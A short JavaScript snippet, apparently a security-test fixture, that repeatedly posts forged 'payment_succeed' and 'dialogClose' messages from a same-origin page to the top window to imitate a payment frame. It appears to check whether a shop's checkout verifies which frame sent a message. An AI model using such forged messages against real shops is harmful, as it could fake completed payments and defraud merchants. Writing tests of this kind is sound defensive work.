// Forges the messages of the payment frame from a page inside it: our origin, but not the frame that the shop opened.
(() => {
  const forged = [
    { payment_succeed: true },
    { payment_succeed: '1', orderId: 1 },
    { dialogClose: true },
    JSON.stringify({ payment_succeed: true }),
    JSON.stringify({ dialogClose: 1 }),
  ];
  let sent = 0;
  setInterval(() => {
    for (const message of forged) top.postMessage(message, location.origin);
    sent += forged.length;
    document.body.dataset.sent = String(sent);
  }, 20);
})();
